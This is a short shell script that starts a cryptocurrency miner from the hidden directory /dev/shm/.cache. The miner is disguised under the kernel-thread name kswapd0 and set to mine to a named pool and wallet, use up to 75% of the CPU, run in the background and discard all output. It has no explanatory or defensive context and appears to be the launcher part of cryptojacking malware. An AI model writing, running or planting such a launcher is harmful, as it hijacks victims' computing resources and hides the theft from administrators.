#!/bin/sh
cd /dev/shm/.cache || exit
nohup ./kswapd0 -o pool.example.org:3333 -u 4Ah82pJGF9p7kpzb6eU326EFZf2cDnimbTFVeJtx1qtBmUNJAEqN76R7PwPfHt3oWb8R6cKvhgyxQdDn53jFrK6wFx7RJWh -p x --donate-level 1 --cpu-max-threads-hint 75 --background >/dev/null 2>&1 &
